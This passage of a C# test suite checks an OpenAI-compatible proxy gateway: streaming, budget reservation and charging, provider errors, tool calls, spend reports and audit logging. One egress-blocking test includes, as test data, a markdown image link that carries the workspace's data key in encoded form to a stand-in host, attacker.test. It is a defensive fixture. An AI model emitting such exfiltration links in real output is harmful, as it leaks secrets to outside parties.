using System.ClientModel;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;

using Microsoft.AspNetCore.Http;

using OpenAI.Chat;

using Platform.Testing;

namespace Platform.Gateway.Tests;

/// <summary>
/// The OpenAI-compatible endpoint driven by the official <c>OpenAI</c> client over real HTTP, against a fake provider
/// that speaks OpenAI's wire format. Runs on every store: see the OnSqlite and OnPostgres subclasses.
/// </summary>
public abstract class ProxyTests(ProxyFixture proxy)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_completion_through_the_official_client_returns_the_providers_answer_and_spends_its_reported_usage()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueText("pong", promptTokens: 9, completionTokens: 3);

        var completion = (await workspace.Chat().CompleteChatAsync([new UserChatMessage("ping")], cancellationToken: Ct)).Value;

        Assert.Equal("pong", completion.Content[0].Text);
        Assert.Equal(9, completion.Usage.InputTokenCount);
        var sent = JsonDocument.Parse(Assert.Single(upstream.Requests).Body).RootElement;
        Assert.Equal(ProxyWorkspace.Model, sent.GetProperty("model").GetString());
        Assert.Equal(100, sent.GetProperty("max_completion_tokens").GetInt32());
        Assert.Equal("Bearer sk-operator-upstream-key", Assert.Single(upstream.Requests).Header("authorization"));
        var budget = await workspace.BudgetAsync();
        Assert.Equal(ProxyWorkspace.Cost(9, 3), budget.GetProperty("spentMicros").GetInt64());
        Assert.Equal(0, budget.GetProperty("reservedMicros").GetInt64());
        var entry = Assert.Single(await workspace.AuditAsync("proxy"));
        Assert.Equal("proxy.chat_completion", entry.GetProperty("kind").GetString());
        var details = entry.GetProperty("details");
        Assert.Equal("9", details.GetProperty("prompt_tokens").GetString());
        Assert.Equal("3", details.GetProperty("completion_tokens").GetString());
        Assert.Equal("15", details.GetProperty("cost_micros").GetString());
        Assert.Equal("provider_usage", details.GetProperty("charge_basis").GetString());
        Assert.True(long.Parse(details.GetProperty("latency_us").GetString()!, System.Globalization.CultureInfo.InvariantCulture) > 0);
        Assert.False(details.TryGetProperty("prompt_sealed", out _));
        Assert.DoesNotContain("ping", entry.GetRawText(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_client_limit_within_the_models_cap_is_forwarded_as_sent_and_reserved_as_the_worst_case()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueText("ok", 5, 2);

        await workspace.Chat().CompleteChatAsync([new UserChatMessage("hello")], new ChatCompletionOptions { MaxOutputTokenCount = 7 }, Ct);

        var sent = JsonDocument.Parse(Assert.Single(upstream.Requests).Body).RootElement;
        Assert.Equal(7, sent.GetProperty("max_completion_tokens").GetInt32());
        var entry = Assert.Single(await workspace.AuditAsync("proxy"));
        var reserved = long.Parse(entry.GetProperty("details").GetProperty("reserved_micros").GetString()!, System.Globalization.CultureInfo.InvariantCulture);
        Assert.True(reserved >= 2 * 7, $"reserved {reserved} does not cover 7 output tokens");
        Assert.True(reserved < 2 * 100, $"reserved {reserved} ignores the client's limit of 7");
    }

    [Fact]
    public async Task A_stream_through_the_official_client_arrives_in_pieces_and_spends_the_usage_of_its_last_chunk()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueText("a streamed answer in several pieces", promptTokens: 11, completionTokens: 7);

        var text = new StringBuilder();
        var updates = 0;
        ChatTokenUsage? usage = null;
        await foreach (var update in workspace.Chat().CompleteChatStreamingAsync([new UserChatMessage("stream please")], cancellationToken: Ct))
        {
            updates++;
            text.Append(string.Concat(update.ContentUpdate.Select(p => p.Text)));
            usage ??= update.Usage;
        }

        Assert.Equal("a streamed answer in several pieces", text.ToString());
        Assert.True(updates > 3, $"{updates} updates: the answer was not relayed in pieces");
        Assert.Equal(7, usage?.OutputTokenCount);
        Assert.Equal(ProxyWorkspace.Cost(11, 7), (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
        var details = Assert.Single(await workspace.AuditAsync("proxy")).GetProperty("details");
        Assert.Equal("true", details.GetProperty("stream").GetString());
        Assert.Equal("provider_usage", details.GetProperty("charge_basis").GetString());
    }

    [Fact]
    public async Task A_streaming_client_that_did_not_ask_for_usage_gets_no_usage_chunk_though_the_proxy_settles_with_it()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueText("pong", promptTokens: 9, completionTokens: 2);
        using var client = proxy.Client(workspace.ProxyKey);

        var response = await client.PostAsync(new Uri("v1/chat/completions", UriKind.Relative), new StringContent(workspace.WithModel("""{"model":"gpt-test","messages":[{"role":"user","content":"ping"}],"stream":true}"""), Encoding.UTF8, "application/json"), Ct);
        var events = (await response.Content.ReadAsStringAsync(Ct)).Split("\n\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal("text/event-stream", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("data: [DONE]", events[^1]);
        Assert.All(events[..^1], e => Assert.StartsWith("data: {", e, StringComparison.Ordinal));
        Assert.DoesNotContain(events, e => e.Contains("\"prompt_tokens\"", StringComparison.Ordinal));
        Assert.Equal("pong", string.Concat(events[..^1].Select(e => JsonDocument.Parse(e["data: ".Length..]).RootElement.GetProperty("choices")).Where(c => c.GetArrayLength() > 0)
            .Select(c => c[0].GetProperty("delta")).Select(d => d.TryGetProperty("content", out var t) && t.ValueKind == JsonValueKind.String ? t.GetString() : "")));
        var sent = JsonDocument.Parse(Assert.Single(upstream.Requests).Body).RootElement;
        Assert.True(sent.GetProperty("stream_options").GetProperty("include_usage").GetBoolean());
        Assert.Equal(ProxyWorkspace.Cost(9, 2), (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
    }

    [Fact]
    public async Task A_providers_keep_alive_comments_pass_through_and_a_last_line_without_its_newline_still_counts()
    {
        const string Chunk = """{"id":"c","object":"chat.completion.chunk","created":1,"model":"gpt-test","choices":[{"index":0,"delta":{"role":"assistant","content":"hi"},"finish_reason":"stop"}]}""";
        const string Usage = """{"id":"c","object":"chat.completion.chunk","created":1,"model":"gpt-test","choices":[],"usage":{"prompt_tokens":5,"completion_tokens":4,"total_tokens":9}}""";
        await using var upstream = await LoopbackWebServer.StartAsync((_, _) => Task.FromResult(
            Results.Text($": keep-alive\r\n\r\ndata: {Chunk}\r\n\r\ndata: {Usage}\n\ndata: [DONE]", "text/event-stream")));
        var workspace = await proxy.CreateWorkspaceAsync(new Uri(upstream.Address, "v1"));
        using var client = proxy.Client(workspace.ProxyKey);

        var response = await client.PostAsync(new Uri("v1/chat/completions", UriKind.Relative), new StringContent(workspace.WithModel("""{"model":"gpt-test","messages":[{"role":"user","content":"hi"}],"stream":true}"""), Encoding.UTF8, "application/json"), Ct);
        var events = (await response.Content.ReadAsStringAsync(Ct)).Split("\n\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal([": keep-alive", $"data: {Chunk}", "data: [DONE]"], events);
        Assert.Equal(ProxyWorkspace.Cost(5, 4), (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
    }

    [Fact]
    public async Task A_client_that_leaves_mid_stream_stops_the_provider_and_is_charged_for_what_was_produced()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        var reply = upstream.EnqueueText(new string('w', 400), promptTokens: 9, completionTokens: 100, stallAfterChunks: 6);
        using var client = proxy.Client(workspace.ProxyKey);

        using (var request = new HttpRequestMessage(HttpMethod.Post, "v1/chat/completions") { Content = new StringContent(workspace.WithModel("""{"model":"gpt-test","messages":[{"role":"user","content":"long"}],"stream":true}"""), Encoding.UTF8, "application/json") })
        using (var response = await client.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, Ct))
        {
            await reply.Stalled.WaitAsync(TimeSpan.FromSeconds(30), Ct);
            using var stream = await response.Content.ReadAsStreamAsync(Ct);
            Assert.True(await stream.ReadAsync(new byte[64], Ct) > 0);
        }

        await reply.ClientDisconnected.WaitAsync(TimeSpan.FromSeconds(30), Ct);
        var entry = await EventuallyAsync(async () => await workspace.AuditAsync("proxy") is [var only] ? only : null);
        var details = entry.GetProperty("details");
        Assert.Equal("client_disconnected", details.GetProperty("outcome").GetString());
        Assert.Equal("produced_estimate", details.GetProperty("charge_basis").GetString());
        var cost = long.Parse(details.GetProperty("cost_micros").GetString()!, System.Globalization.CultureInfo.InvariantCulture);
        var reserved = long.Parse(details.GetProperty("reserved_micros").GetString()!, System.Globalization.CultureInfo.InvariantCulture);
        Assert.InRange(cost, 1, reserved - 1);
        var budget = await workspace.BudgetAsync();
        Assert.Equal(cost, budget.GetProperty("spentMicros").GetInt64());
        Assert.Equal(0, budget.GetProperty("reservedMicros").GetInt64());
    }

    [Fact]
    public async Task A_stream_whose_provider_reports_no_usage_is_charged_the_reserved_worst_case()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueText("pong", 9, 1, reportUsage: false);

        await foreach (var _ in workspace.Chat().CompleteChatStreamingAsync([new UserChatMessage("ping")], cancellationToken: Ct))
        {
        }

        var details = Assert.Single(await workspace.AuditAsync("proxy")).GetProperty("details");
        Assert.Equal("reserved_worst_case", details.GetProperty("charge_basis").GetString());
        Assert.Equal(long.Parse(details.GetProperty("reserved_micros").GetString()!, System.Globalization.CultureInfo.InvariantCulture), (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
    }

    [Fact]
    public async Task A_streaming_request_the_provider_refuses_gets_an_OpenAI_error_rather_than_a_stream()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueError(503, "server_error", "overloaded");

        var failed = await Assert.ThrowsAsync<ClientResultException>(async () =>
        {
            await foreach (var _ in workspace.Chat().CompleteChatStreamingAsync([new UserChatMessage("ping")], cancellationToken: Ct))
            {
            }
        });

        Assert.Equal(502, failed.Status);
        Assert.Equal(0, (await workspace.BudgetAsync()).GetProperty("reservedMicros").GetInt64());
        Assert.Equal(0, (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
    }

    [Fact]
    public async Task A_workspace_on_the_offline_local_model_answers_without_any_provider()
    {
        using var operatorClient = proxy.Client(ApiFixture.OperatorKey);
        var created = await (await operatorClient.PostAsJsonAsync("/api/workspaces", new { name = "Local", ownerUserId = "lou", ownerDisplayName = "Lou" }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct);
        using var owner = proxy.Client(created.GetProperty("ownerKey").GetString());
        (await owner.PutAsJsonAsync("/api/budget", new { monthlyCapMicros = 1_000_000 }, Ct)).EnsureSuccessStatusCode();
        var key = await (await owner.PostAsJsonAsync("/api/keys", new { name = "app", userId = "lou", scopes = new[] { "proxy" } }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct);
        var chat = new ChatClient("local-rules-1", new System.ClientModel.ApiKeyCredential(key.GetProperty("token").GetString()!), new OpenAI.OpenAIClientOptions { Endpoint = new Uri(proxy.Address, "v1") });

        var completion = (await chat.CompleteChatAsync([new UserChatMessage("hello")], cancellationToken: Ct)).Value;
        var streamed = new StringBuilder();
        await foreach (var update in chat.CompleteChatStreamingAsync([new UserChatMessage("hello")], cancellationToken: Ct))
        {
            streamed.Append(string.Concat(update.ContentUpdate.Select(p => p.Text)));
        }

        Assert.Contains("not a language model", completion.Content[0].Text, StringComparison.Ordinal);
        Assert.Equal(completion.Content[0].Text, streamed.ToString());
        Assert.True(completion.Usage.OutputTokenCount > 0);
        Assert.True((await owner.GetFromJsonAsync<JsonElement>("/api/budget", Ct)).GetProperty("spentMicros").GetInt64() > 0);
    }

    [Fact]
    public async Task Tool_definitions_reach_the_provider_and_its_tool_calls_reach_the_client()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueToolCalls([("call_1", "get_weather", """{"city":"Oslo"}""")], 20, 8);
        var options = new ChatCompletionOptions
        {
            Tools = { ChatTool.CreateFunctionTool("get_weather", "Weather of a city", BinaryData.FromString("""{"type":"object","properties":{"city":{"type":"string"}},"required":["city"]}""")) },
        };

        var completion = (await workspace.Chat().CompleteChatAsync([new UserChatMessage("Weather in Oslo?")], options, Ct)).Value;

        Assert.Equal(ChatFinishReason.ToolCalls, completion.FinishReason);
        var call = Assert.Single(completion.ToolCalls);
        Assert.Equal("call_1", call.Id);
        Assert.Equal("get_weather", call.FunctionName);
        Assert.Equal("Oslo", JsonDocument.Parse(call.FunctionArguments).RootElement.GetProperty("city").GetString());
        var sent = JsonDocument.Parse(Assert.Single(upstream.Requests).Body).RootElement;
        Assert.Equal("get_weather", sent.GetProperty("tools")[0].GetProperty("function").GetProperty("name").GetString());
        Assert.Equal(ProxyWorkspace.Cost(20, 8), (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
    }

    [Fact]
    public async Task A_streamed_tool_call_reaches_the_official_client_whole()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueToolCalls([("call_7", "get_weather", """{"city":"Bergen","unit":"celsius"}""")], 30, 12);
        var options = new ChatCompletionOptions
        {
            Tools = { ChatTool.CreateFunctionTool("get_weather", "Weather of a city", BinaryData.FromString("""{"type":"object","properties":{"city":{"type":"string"},"unit":{"type":"string"}}}""")) },
        };

        var name = "";
        var arguments = new StringBuilder();
        ChatFinishReason? finish = null;
        await foreach (var update in workspace.Chat().CompleteChatStreamingAsync([new UserChatMessage("Weather in Bergen?")], options, Ct))
        {
            foreach (var part in update.ToolCallUpdates)
            {
                name = part.FunctionName ?? name;
                arguments.Append(part.FunctionArgumentsUpdate?.ToString());
            }

            finish ??= update.FinishReason;
        }

        Assert.Equal("get_weather", name);
        Assert.Equal("Bergen", JsonDocument.Parse(arguments.ToString()).RootElement.GetProperty("city").GetString());
        Assert.Equal(ChatFinishReason.ToolCalls, finish);
        Assert.Equal(ProxyWorkspace.Cost(30, 12), (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
    }

    [Fact]
    public async Task An_admin_reads_the_periods_spend_by_key_by_model_and_by_day_and_a_wrong_grouping_is_named()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        var second = (await (await workspace.Owner.PostAsJsonAsync("/api/keys", new { name = "batch", userId = "olive@acme.test", scopes = new[] { "proxy" } }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("token").GetString()!;
        upstream.EnqueueText("one", promptTokens: 9, completionTokens: 3);
        upstream.EnqueueText("two", promptTokens: 5, completionTokens: 1);
        upstream.EnqueueText("three", promptTokens: 1, completionTokens: 1);

        await workspace.Chat().CompleteChatAsync([new UserChatMessage("ping")], cancellationToken: Ct);
        await workspace.Chat().CompleteChatAsync([new UserChatMessage("ping")], cancellationToken: Ct);
        await workspace.Chat(second).CompleteChatAsync([new UserChatMessage("ping")], cancellationToken: Ct);

        var byKey = await workspace.Owner.GetFromJsonAsync<JsonElement>("/api/budget/usage?groupBy=key", Ct);
        var byModel = await workspace.Owner.GetFromJsonAsync<JsonElement>("/api/budget/usage?groupBy=model", Ct);
        var byDay = await workspace.Owner.GetFromJsonAsync<JsonElement>("/api/budget/usage?groupBy=day", Ct);
        var first = ProxyWorkspace.Cost(9, 3) + ProxyWorkspace.Cost(5, 1);
        var other = ProxyWorkspace.Cost(1, 1);
        Assert.Equal("key", byKey.GetProperty("groupBy").GetString());
        Assert.Equal(first + other, byKey.GetProperty("spentMicros").GetInt64());
        Assert.Equal(
            [(workspace.ProxyKey.Split('_')[2], first, 2L), (second.Split('_')[2], other, 1L)],
            byKey.GetProperty("rows").EnumerateArray().Select(static r => (r.GetProperty("group").GetString()!, r.GetProperty("spentMicros").GetInt64(), r.GetProperty("calls").GetInt64())));
        var model = Assert.Single(byModel.GetProperty("rows").EnumerateArray());
        Assert.Equal((workspace.ModelId, first + other), (model.GetProperty("group").GetString(), model.GetProperty("spentMicros").GetInt64()));
        var day = Assert.Single(byDay.GetProperty("rows").EnumerateArray());
        Assert.Matches(@"^\d{4}-\d{2}-\d{2}$", day.GetProperty("group").GetString());
        Assert.Equal(3, day.GetProperty("calls").GetInt64());

        using var partner = proxy.Client(workspace.ProxyKey);
        Assert.Equal(HttpStatusCode.Forbidden, (await partner.GetAsync(new Uri("api/budget/usage?groupBy=key", UriKind.Relative), Ct)).StatusCode);
        Assert.Equal("day", (await workspace.Owner.GetFromJsonAsync<JsonElement>("/api/budget/usage", Ct)).GetProperty("groupBy").GetString());
        foreach (var wrong in new[] { "api/budget/usage?groupBy=", "api/budget/usage?groupBy=week", "api/budget/usage?groupBy=Key" })
        {
            var refused = await workspace.Owner.GetAsync(new Uri(wrong, UriKind.Relative), Ct);
            Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
            Assert.Equal("application/problem+json", refused.Content.Headers.ContentType?.MediaType);
            Assert.Contains("accepted values are day, key, model", await refused.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task A_runs_model_calls_are_reported_under_the_key_that_started_it_and_the_workspaces_model()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueText("The report is ready.", promptTokens: 20, completionTokens: 5);

        var started = await workspace.Owner.PostAsJsonAsync("/api/runs", new { input = "summarise the week" }, Ct);
        var runId = (await started.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("runId").GetString()!;
        await ProcessFlow.PollRunAsync(workspace.Owner, runId, "completed");

        var byKey = await workspace.Owner.GetFromJsonAsync<JsonElement>("/api/budget/usage?groupBy=key", Ct);
        var byModel = await workspace.Owner.GetFromJsonAsync<JsonElement>("/api/budget/usage?groupBy=model", Ct);
        var spent = (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64();
        Assert.True(spent > 0);
        var key = Assert.Single(byKey.GetProperty("rows").EnumerateArray());
        Assert.Equal((workspace.OwnerKey.Split('_')[2], spent, 1L), (key.GetProperty("group").GetString(), key.GetProperty("spentMicros").GetInt64(), key.GetProperty("calls").GetInt64()));
        Assert.Equal(workspace.ModelId, Assert.Single(byModel.GetProperty("rows").EnumerateArray()).GetProperty("group").GetString());
    }

    [Fact]
    public async Task A_workspace_without_budget_left_gets_budget_exceeded_and_the_provider_is_never_called()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl, capMicros: 0);
        upstream.EnqueueText("never", 1, 1);

        var refused = await Assert.ThrowsAsync<ClientResultException>(() => workspace.Chat().CompleteChatAsync([new UserChatMessage("ping")], cancellationToken: Ct));

        Assert.Equal(429, refused.Status);
        var error = JsonDocument.Parse(refused.GetRawResponse()!.Content.ToString()).RootElement.GetProperty("error");
        Assert.Equal("budget_exceeded", error.GetProperty("type").GetString());
        Assert.EndsWith("raise the cap to continue", error.GetProperty("message").GetString(), StringComparison.Ordinal);
        Assert.Empty(upstream.Requests);
        Assert.Equal(0, (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
        var entry = Assert.Single(await workspace.AuditAsync("proxy"));
        Assert.Equal("proxy.refused", entry.GetProperty("kind").GetString());
        Assert.Equal("budget_exceeded", entry.GetProperty("details").GetProperty("reason").GetString());
    }

    [Theory]
    [InlineData(429, "rate_limit_exceeded", 429)]
    [InlineData(400, "invalid_request_error", 400)]
    [InlineData(500, "server_error", 502)]
    [InlineData(401, "invalid_api_key", 502)]
    public async Task A_provider_error_reaches_the_client_in_OpenAIs_shape_and_releases_the_reservation(int upstreamStatus, string upstreamType, int expectedStatus)
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueError(upstreamStatus, upstreamType, "the provider says no");

        var failed = await Assert.ThrowsAsync<ClientResultException>(() => workspace.Chat().CompleteChatAsync([new UserChatMessage("ping")], cancellationToken: Ct));

        Assert.Equal(expectedStatus, failed.Status);
        var error = JsonDocument.Parse(failed.GetRawResponse()!.Content.ToString()).RootElement.GetProperty("error");
        Assert.False(string.IsNullOrEmpty(error.GetProperty("message").GetString()));
        Assert.False(string.IsNullOrEmpty(error.GetProperty("type").GetString()));
        Assert.DoesNotContain("sk-operator-upstream-key", failed.GetRawResponse()!.Content.ToString(), StringComparison.Ordinal);
        var budget = await workspace.BudgetAsync();
        Assert.Equal(0, budget.GetProperty("spentMicros").GetInt64());
        Assert.Equal(0, budget.GetProperty("reservedMicros").GetInt64());
        var entry = Assert.Single(await workspace.AuditAsync("proxy"));
        Assert.Equal("upstream_error", entry.GetProperty("details").GetProperty("outcome").GetString());
        Assert.Equal("0", entry.GetProperty("details").GetProperty("cost_micros").GetString());
    }

    [Fact]
    public async Task An_unreachable_provider_is_a_502_that_charges_nothing()
    {
        var closedPort = new Uri("http://127.0.0.1:9/v1");
        var workspace = await proxy.CreateWorkspaceAsync(closedPort);

        var failed = await Assert.ThrowsAsync<ClientResultException>(() => workspace.Chat().CompleteChatAsync([new UserChatMessage("ping")], cancellationToken: Ct));

        Assert.Equal(502, failed.Status);
        Assert.Equal(0, (await workspace.BudgetAsync()).GetProperty("reservedMicros").GetInt64());
        Assert.Equal(0, (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
    }

    [Fact]
    public async Task A_provider_that_reports_no_usage_is_charged_the_reserved_worst_case()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        upstream.EnqueueText("pong", 9, 1, reportUsage: false);

        await workspace.Chat().CompleteChatAsync([new UserChatMessage("ping")], cancellationToken: Ct);

        var entry = Assert.Single(await workspace.AuditAsync("proxy"));
        var details = entry.GetProperty("details");
        Assert.Equal("reserved_worst_case", details.GetProperty("charge_basis").GetString());
        Assert.Equal(details.GetProperty("reserved_micros").GetString(), details.GetProperty("cost_micros").GetString());
        Assert.Equal(long.Parse(details.GetProperty("reserved_micros").GetString()!, System.Globalization.CultureInfo.InvariantCulture), (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
    }

    [Fact]
    public async Task Sixty_four_concurrent_callers_against_a_cap_for_exactly_twenty_calls_get_twenty_answers_and_forty_four_refusals()
    {
        const int Callers = 64;
        const int Allowed = 20;
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl, capMicros: 1_000_000);

        // One call shows what this request reserves; the cap is then set so exactly Allowed more fit at the worst case.
        upstream.EnqueueText("warm", 4, 1);
        await workspace.Chat().CompleteChatAsync([new UserChatMessage("concurrent")], cancellationToken: Ct);
        var worstCase = long.Parse((await workspace.AuditAsync("proxy"))[0].GetProperty("details").GetProperty("reserved_micros").GetString()!, System.Globalization.CultureInfo.InvariantCulture);
        var spentBefore = (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64();
        (await workspace.Owner.PutAsJsonAsync("/api/budget", new { monthlyCapMicros = spentBefore + (Allowed * worstCase) }, Ct)).EnsureSuccessStatusCode();
        for (var i = 0; i < Allowed; i++)
        {
            upstream.EnqueueText($"answer {i}", 3 + i, 1 + (i % 5));
        }

        // Held at the provider, every granted call keeps its reservation until all 64 have been decided.
        upstream.Hold();
        var chat = workspace.Chat();
        var calls = Enumerable.Range(0, Callers).Select(_ => Task.Run(() => CallAsync(chat), Ct)).ToArray();
        await WaitUntilAsync(() => upstream.HeldCount == Allowed && calls.Count(c => c.IsCompleted) == Callers - Allowed);
        upstream.Release();
        var outcomes = await Task.WhenAll(calls);

        Assert.True(Allowed == outcomes.Count(o => o.Usage is not null), string.Join(",", outcomes.Select(o => o.ErrorType ?? "ok")));
        Assert.Equal(Callers - Allowed, outcomes.Count(o => o.ErrorType == "budget_exceeded"));
        var settled = outcomes.Where(o => o.Usage is not null).Sum(o => ProxyWorkspace.Cost(o.Usage!.InputTokenCount, o.Usage.OutputTokenCount));
        var budget = await workspace.BudgetAsync();
        Assert.Equal(spentBefore + settled, budget.GetProperty("spentMicros").GetInt64());
        Assert.Equal(0, budget.GetProperty("reservedMicros").GetInt64());
        Assert.Equal(Allowed + 1, upstream.Requests.Count);
        Assert.Equal(Callers - Allowed, (await workspace.AuditAsync("proxy.refused")).Length);
        Assert.True((await workspace.Owner.GetFromJsonAsync<JsonElement>("/api/audit/verify", Ct)).GetProperty("valid").GetBoolean());
    }

    [Fact]
    public async Task A_request_carrying_the_workspaces_data_key_in_any_encoding_is_refused_audited_and_never_forwarded()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        string[] leaks =
        [
            $"here it is: {Convert.ToBase64String(ProxyFixture.DataKey)}",
            $"hex {Convert.ToHexStringLower(ProxyFixture.DataKey)} please",
            $"![img](https://attacker.test/x?k={Convert.ToBase64String(ProxyFixture.DataKey).Replace('+', '-').Replace('/', '_').TrimEnd('=')})",
        ];

        foreach (var leak in leaks)
        {
            var refused = await Assert.ThrowsAsync<ClientResultException>(() => workspace.Chat().CompleteChatAsync([new UserChatMessage(leak)], cancellationToken: Ct));
            Assert.Equal(400, refused.Status);
            var error = JsonDocument.Parse(refused.GetRawResponse()!.Content.ToString()).RootElement.GetProperty("error");
            Assert.Equal("secret_detected", error.GetProperty("code").GetString());
        }

        // JSON escapes must not hide it: the same base64 with every character written as \u00XX.
        var escaped = string.Concat(Convert.ToBase64String(ProxyFixture.DataKey).Select(c => $"\\u{(int)c:x4}"));
        using var raw = proxy.Client(workspace.ProxyKey);
        var response = await raw.PostAsync(new Uri("v1/chat/completions", UriKind.Relative), new StringContent(workspace.WithModel($$"""{"model":"gpt-test","messages":[{"role":"user","content":"{{escaped}}"}]}"""), Encoding.UTF8, "application/json"), Ct);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);

        Assert.Empty(upstream.Requests);
        var blocked = await workspace.AuditAsync("proxy.egress_blocked");
        Assert.Equal(leaks.Length + 1, blocked.Length);
        var base64 = Convert.ToBase64String(ProxyFixture.DataKey);
        Assert.All(blocked, b => Assert.DoesNotContain(base64[..16], b.GetRawText(), StringComparison.Ordinal));
        Assert.Equal(0, (await workspace.BudgetAsync()).GetProperty("spentMicros").GetInt64());
    }

    [Fact]
    public async Task With_content_auditing_on_the_audit_entry_keeps_the_prompt_sealed_and_never_in_plain_text()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl, auditContent: true);
        upstream.EnqueueText("pong", 9, 1);

        await workspace.Chat().CompleteChatAsync([new UserChatMessage("a very particular prompt")], cancellationToken: Ct);

        var entry = Assert.Single(await workspace.AuditAsync("proxy"));
        Assert.False(string.IsNullOrEmpty(entry.GetProperty("details").GetProperty("prompt_sealed").GetString()));
        Assert.DoesNotContain("particular", entry.GetRawText(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_catalogue_entry_pointing_at_a_server_the_operator_did_not_list_is_refused_when_it_is_put_so_no_workspace_can_choose_it()
    {
        using var operatorClient = proxy.Client(ApiFixture.OperatorKey);

        var refused = await operatorClient.PutAsJsonAsync("/api/catalog/models/elsewhere", new { provider = "openai", model = "gpt-test", baseUrl = "http://127.0.0.2:9/v1", inputPricePer1kTokens = 1, outputPricePer1kTokens = 1, maxOutputTokens = 10 }, Ct);

        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        var detail = (await refused.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("detail").GetString();
        Assert.Contains("Platform:Models:OpenAI:AllowedBaseUrls", detail, StringComparison.Ordinal);
        Assert.Contains("http://127.0.0.2:9/v1", detail, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, (await operatorClient.GetAsync(new Uri("/api/catalog/models/elsewhere", UriKind.Relative), Ct)).StatusCode);
    }

    [Fact]
    public async Task The_models_list_names_the_catalogue_entries_the_workspace_may_use_in_OpenAIs_shape()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        var other = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        using var client = proxy.Client(workspace.ProxyKey);

        var models = await client.GetFromJsonAsync<JsonElement>("v1/models", Ct);

        Assert.Equal("list", models.GetProperty("object").GetString());
        var ids = models.GetProperty("data").EnumerateArray().Select(m => m.GetProperty("id").GetString()).ToArray();
        Assert.Contains(workspace.ModelId, ids);
        Assert.Contains("local-rules-1", ids);
        Assert.DoesNotContain(other.ModelId, ids);
        var model = models.GetProperty("data").EnumerateArray().Single(m => m.GetProperty("id").GetString() == workspace.ModelId);
        Assert.Equal("model", model.GetProperty("object").GetString());
        Assert.Equal("openai", model.GetProperty("owned_by").GetString());
        Assert.True(model.GetProperty("created").GetInt64() > 0);
    }

    [Theory]
    [InlineData("not json", 400, "invalid_request_error", null)]
    [InlineData("""["an array"]""", 400, "invalid_request_error", null)]
    [InlineData("""{"messages":[{"role":"user","content":"x"}]}""", 400, "invalid_request_error", "model")]
    [InlineData("""{"model":"gpt-test","messages":[]}""", 400, "invalid_request_error", "messages")]
